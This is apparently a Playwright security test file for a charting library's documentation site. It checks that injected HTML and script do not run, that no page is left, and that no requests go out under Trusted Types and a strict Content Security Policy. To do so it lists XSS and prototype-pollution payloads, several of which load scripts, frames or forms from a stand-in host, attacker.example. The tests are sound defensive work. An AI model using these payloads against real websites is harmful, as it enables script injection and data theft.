import type * as Library from '@aijiaoyi/charts';
import type { Page } from '@playwright/test';
import { libraryVersion } from '../../scripts/pack/folder';
import { SearchBox } from '../search/search-box';
import { expect, hydrated, open, test } from '../site';

const MARKUP = '<img src=/x onerror="window.harmed=1"><script>window.harmed=1</script>';
const coded = encodeURIComponent(MARKUP);

/** Everything that an attacker may try ends here: nothing ran, nothing else was asked, no page was left. */
async function watchHarm(page: Page): Promise<() => Promise<void>> {
  const requests: string[] = [];
  const messages: string[] = [];
  // What a policy forbids is announced as a request too, but never gets as far as here.
  await page.route('https://attacker.example/**', (route) => {
    requests.push(route.request().url());
    return route.fulfill({ body: 'window.harmed = 1' });
  });
  page.on('dialog', (dialog) => {
    messages.push(dialog.message());
    void dialog.dismiss();
  });
  return async () => {
    expect(await page.evaluate(() => 'harmed' in window)).toBe(false);
    expect(requests).toEqual([]);
    expect(messages).toEqual([]);
    expect(new URL(page.url()).hostname).toBe('127.0.0.1');
  };
}

test.describe('injected markup does nothing', () => {
  for (const address of [
    `search?q=${coded}`,
    `search?q=time&version=${coded}`,
    `getting-started/?docusaurus-data-theme=${coded}#${coded}`,
    `${coded}/${coded}`,
    'search?q=javascript:window.harmed=1',
    `examples/?words=${coded}&topic=${coded}`,
    `playground?words=${coded}#${coded}`,
  ]) {
    test(`in the URL ${address.slice(0, 40)}`, async ({ page }) => {
      const isUnharmed = await watchHarm(page);
      await page.goto(`./${address}`);
      await hydrated(page);
      await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
      await isUnharmed();
    });
  }

  test('in the options of a controls URL, in the page and in the chart', async ({ page }) => {
    const isUnharmed = await watchHarm(page);
    const hostile = [MARKUP, "'});parent.harmed=1;//", '${window.harmed=1}', '\\'];
    const query = new URLSearchParams([
      ['label', hostile.join('')],
      ['fontFamily', hostile.join('')],
      ['background', `url(https://attacker.example/)`],
      ['locale', MARKUP],
      ['__proto__.harmed', '1'],
      ['constructor', '{"prototype":{"harmed":1}}'],
      ['priceAxis', '{"__proto__":{"harmed":1}}'],
      ['timeAxis.tickFormatter', '()=>parent.harmed=1'],
      ['fontSize', '1e999'],
    ]);
    await open(page, `/api/interfaces/ChartOptions?${query.toString()}`);
    const container = page.locator('.controls-panel [data-live]');
    await page.locator('.controls-panel [data-live]').dispatchEvent('pointerenter');
    await expect(container).toHaveAttribute('data-live', 'running', { timeout: 30_000 });
    const inside = page.frames().find((frame) => frame !== page.mainFrame());
    expect(await inside?.evaluate(() => 'harmed' in window || 'harmed' in {})).toBe(false);
    expect(await page.evaluate(() => 'harmed' in {})).toBe(false);
    await isUnharmed();
  });

  test('typed into the search box', async ({ page }) => {
    const isUnharmed = await watchHarm(page);
    await open(page, '/');
    const box = new SearchBox(page);
    await box.search(`time ${MARKUP}`);
    await expect(box.options.first()).toBeVisible();
    await page.keyboard.press('Enter');
    await isUnharmed();
  });

  test('in the text of a page, which still shows', async ({ page, site }) => {
    const isUnharmed = await watchHarm(page);
    const hostile = [
      MARKUP,
      '<script src="https://attacker.example/x.js"></script>',
      '<script type="module">window.harmed=1</script>',
      '<style>body{display:none}</style><p style="position:fixed;inset:0;background:red">Over all</p>',
      '<link rel="stylesheet" href="https://attacker.example/x.css">',
      '<iframe src="https://attacker.example/"></iframe><iframe srcdoc="<script>parent.harmed=1</script>"></iframe>',
      '<object data="https://attacker.example/x"></object><embed src="https://attacker.example/x">',
      '<svg onload="window.harmed=1"><script>window.harmed=1</script></svg>',
      '<base href="https://attacker.example/">',
      '<img src="https://attacker.example/seen.png"><video src="https://attacker.example/v" autoplay></video>',
      '<form action="https://attacker.example/"><button id="send">Send</button></form>',
      '<a id="run" href="javascript:window.harmed=1">Run</a><p id="last">The last of it</p>',
    ].join('');
    await page.route(`${site.url}markdown-page`, async (route) => {
      const response = await route.fetch();
      const html = await response.text();
      await route.fulfill({
        response,
        body: html.replace(/<body[^>]*>/, (body) => body + hostile),
      });
    });
    // Add it outside of React's root, because React would remove it.
    await page.goto('./markdown-page');
    await expect(page.locator('#last')).toBeVisible();
    await expect(page.locator('#last')).toBeInViewport();
    await page.locator('#run').dispatchEvent('click');
    await page.locator('#send').dispatchEvent('click');
    await isUnharmed();
  });

  test('written by a script as HTML, script URL or code', async ({ page }) => {
    const isUnharmed = await watchHarm(page);
    await open(page, '/getting-started/');
    const refused = await page.evaluate((markup) => {
      const tries: Record<string, () => unknown> = {
        innerHTML: () => (document.createElement('div').innerHTML = markup),
        link: () =>
          (document.createElement('div').innerHTML = '<a href="javascript:harmed=1">x</a>'),
        frame: () => document.body.insertAdjacentHTML('beforeend', '<iframe src="/"></iframe>'),
        script: () => (document.createElement('script').src = 'https://attacker.example/x.js'),
        data: () => (document.createElement('script').src = 'data:text/javascript,harmed=1'),
        code: () => (document.createElement('script').text = 'harmed=1'),
        worker: () => new Worker('https://attacker.example/x.js'),
        policy: () =>
          (
            window as never as { trustedTypes: { createPolicy(name: string, rules: object): void } }
          ).trustedTypes.createPolicy('mine', {}),
      };
      return Object.entries(tries).flatMap(([name, attempt]) => {
        try {
          attempt();
          return [];
        } catch (error) {
          return [`${name}: ${(error as Error).name}`];
        }
      });
    }, MARKUP);
    expect(refused).toEqual([
      'innerHTML: TypeError',
      'link: TypeError',
      'frame: TypeError',
      'script: TypeError',
      'data: TypeError',
      'code: TypeError',
      'worker: TypeError',
      'policy: TypeError',
    ]);
    await isUnharmed();
  });

  test('in a saved chart, under the strictest policy', async ({ page, site }) => {
    const strict = [
      "default-src 'none'",
      `script-src ${site.url}pkg/`,
      "style-src 'none'",
      "require-trusted-types-for 'script'",
      "trusted-types 'none'",
    ].join('; ');
    const isUnharmed = await watchHarm(page);
    const blocked: string[] = [];
    page.on('console', (message) => {
      if (/Content Security|Trusted/.test(message.text())) blocked.push(message.text());
    });
    await page.route(`${site.url}own`, (route) =>
      route.fulfill({
        contentType: 'text/html',
        headers: { 'content-security-policy': strict },
        body: `<!doctype html><title>Own</title><div id="chart"></div><script src="${site.url}pkg/${libraryVersion('.')}/charts.standalone.js"></script>`,
      }),
    );
    await page.goto(`${site.url}own`);
    const texts = await page.evaluate((markup) => {
      const { Charts } = window as never as { Charts: typeof Library };
      const container = document.getElementById('chart');
      if (!container) throw new Error('no place');
      container.style.height = '400px';
      const options = { ariaLabel: markup };
      const chart = Charts.createChart(container, options);
      const series = chart.addSeries('candle');
      series.setData([{ time: 1_700_000_000, open: 1, high: 2, low: 0, close: 1 }]);
      const drawing = chart.attach(Charts.Drawing, { shapes: Charts.allShapes });
      drawing.add(Charts.TextShape, [{ time: 1_700_000_000, price: 1 }], {
        text: markup,
      });
      new Charts.DrawBar(drawing);
      const saved = JSON.parse(JSON.stringify(chart.saveState())) as never;
      chart.remove();
      const again = Charts.restoreChart(container, saved);
      new Charts.DrawBar(again.attach(Charts.Drawing, { shapes: Charts.allShapes }));
      return container.querySelectorAll('img, script').length;
    }, MARKUP);
    expect(texts).toBe(0);
    await expect(page.getByRole('toolbar').first()).toBeVisible();
    expect(blocked).toEqual([]);
    await isUnharmed();
  });
});
